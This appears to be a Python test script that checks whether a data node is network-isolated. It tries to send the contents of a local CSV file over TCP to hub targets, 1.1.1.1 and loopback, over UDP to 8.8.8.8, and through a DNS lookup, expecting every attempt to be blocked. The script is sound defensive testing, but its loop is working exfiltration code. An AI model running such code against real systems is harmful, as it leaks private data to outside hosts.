# Attack: send the node's data out, to the hub or anywhere. Every way out must fail.
import socket
import sys

data = open("/data/variables.csv", "rb").read()
targets = [(socket.AF_INET, host, port) for host, port in __TARGETS__]
targets += [(socket.AF_INET, "1.1.1.1", 443), (socket.AF_INET6, "::1", 443)]
sent = 0
for family, host, port in targets:
    try:
        s = socket.socket(family, socket.SOCK_STREAM)
        s.settimeout(3)
        s.connect((host, port))
        s.sendall(data)
        sent += 1
        print("sent to %s port %s" % (host, port))
    except OSError as e:
        print("blocked %s port %s: %s" % (host, port, e.strerror))
try:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(data[:200], ("8.8.8.8", 53))
    sent += 1
    print("sent a datagram")
except OSError as e:
    print("blocked datagram: %s" % e.strerror)
try:
    socket.getaddrinfo("example.org", 443)
    print("resolved example.org")
except OSError as e:
    print("blocked name lookup: %s" % type(e).__name__)
if sent == 0:
    sys.exit("nothing could be sent")
